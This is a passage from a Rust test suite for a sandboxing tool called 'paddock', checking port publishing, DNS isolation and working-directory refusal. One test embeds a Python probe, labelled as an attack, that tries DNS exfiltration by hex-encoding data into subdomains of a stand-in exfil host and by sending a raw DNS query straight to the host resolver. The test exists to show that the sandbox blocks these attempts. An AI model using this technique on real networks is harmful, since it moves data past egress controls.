    let publish = format!("127.0.0.1:{host}:{inner}");
    let command = py(SERVER, &[&inner_s, "serve"]);
    let mut cmd = bench.run_cmd(&run_id, &["--publish", &publish], &strs(&command));
    cmd.stdout(Stdio::piped());
    let mut child = cmd.spawn().expect("run");
    let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
    let seen = read_line_until(&mut stdout, "LISTENING");
    assert!(seen.contains("LISTENING"), "{seen}");
    let mut conn = TcpStream::connect_timeout(
        &SocketAddr::from((Ipv4Addr::LOCALHOST, host)),
        Duration::from_secs(5),
    )
    .expect("published port");
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let mut got = String::new();
    conn.read_to_string(&mut got).expect("read");
    assert_eq!(got, "hello from inside");
    assert!(wait(&mut child, Duration::from_secs(30)).success());
    // The published port closes with the run.
    assert!(
        TcpStream::connect_timeout(
            &SocketAddr::from((Ipv4Addr::LOCALHOST, host)),
            Duration::from_secs(2)
        )
        .is_err()
    );
    assert_nothing_left(&bench, &run_id, ident(&seen), true);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_inside_goes_to_the_runs_own_sockets() {
    if !require_root("dns_inside_goes_to_the_runs_own_sockets") {
        return;
    }
    let link = HostLink::new();
    let dns = DnsResponder::start(
        &link.upstream,
        SocketAddr::from((link.host_ip, 53)),
        vec![
            (
                "allowed.paddock.test".to_owned(),
                Ipv4Addr::new(10, 79, 250, 7).into(),
            ),
            (
                "exfil.paddock.test".to_owned(),
                Ipv4Addr::new(10, 79, 250, 8).into(),
            ),
        ],
    );
    let bench = Bench::new();
    let run_id = unique("dns");
    let resolver = format!("{}:53", link.host_ip);
    // The attack: data in the names the command asks about, sent to the resolver its
    // resolv.conf names and, failing that, straight to the host's resolver.
    let probe_src = format!(
        r#"
import json, socket
res = {{"resolv": open("/etc/resolv.conf").read()}}
def look(name):
    try:
        return socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]
    except OSError as e:
        return "error: " + str(e)
res["addr"] = look("allowed.paddock.test")
res["exfil"] = look("6c65616b6564.exfil.paddock.test")
q = bytes.fromhex("abcd01000001000000000000") + b"\x0bstraight-out\x05exfil\x07paddock\x04test\x00\x00\x01\x00\x01"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(q, ("{ip}", 53))
    res["direct"] = "answered: " + s.recv(512).hex()
except OSError as e:
    res["direct"] = "error: " + str(e)
print("PROBE " + json.dumps(res), flush=True)
"#,
        ip = link.host_ip
    );
    let mut cmd = bench.run_cmd(
        &run_id,
        &["--nameserver", &resolver, "--allow-cidr", "10.79.250.0/24"],
        &strs(&py(&probe_src, &[])),
    );
    let out = tokio::task::block_in_place(|| run(&mut cmd, &Placement::default()));
    let (stdout, stderr) = output(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let res = probe(&stdout);
    // A name the policy allows resolves, through the run's own DNS server.
    assert_eq!(res["addr"], "10.79.250.7", "{res}");
    let resolv = res["resolv"].as_str().expect("text");
    assert!(resolv.contains("nameserver 127.0.0.1"), "{resolv}");
    assert!(!resolv.contains(&link.host_ip.to_string()), "{resolv}");
    // A name it does not allow gets no address, and neither query reaches the resolver.
    assert!(
        res["exfil"]
            .as_str()
            .is_some_and(|e| e.starts_with("error")),
        "{res}"
    );
    assert!(
        res["direct"]
            .as_str()
            .is_some_and(|e| e.starts_with("error")),
        "{res}"
    );
    let asked = dns.names();
    assert!(
        !asked
            .iter()
            .any(|n| n.contains("exfil") || n.contains("straight-out")),
        "the payload names reached the resolver: {asked:?}"
    );
    assert_nothing_left(&bench, &run_id, ident(&stdout), true);
}

#[test]
fn a_working_directory_the_run_user_cannot_enter_is_refused_clearly() {
    if !require_root("a_working_directory_the_run_user_cannot_enter_is_refused_clearly") {
        return;
    }
    let bench = Bench::new();
    let private = bench.path("private");
    std::fs::create_dir(&private).expect("mkdir");
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    let marker = bench.path("ran");
    let run_id = unique("cwd");
    let mut cmd = bench.run_cmd(
        &run_id,
        &[],
        &["/bin/sh", "-c", &format!("touch {}", marker.display())],
    );
    cmd.current_dir(&private);
    let out = run(&mut cmd, &Placement::default());
    let (_, stderr) = output(&out);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("cannot enter") && stderr.contains("--user"),
        "one clear line: {stderr}"
    );
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert!(!marker.exists(), "nothing ran");
    let cgroup = paddock_proxy::ebpf::mounts::cgroup2_root()
        .expect("cgroup2")
        .join("paddock")
        .join(&run_id);
    assert!(!cgroup.exists());
    assert!(!Path::new("/sys/fs/bpf/paddock").join(&run_id).exists());
}
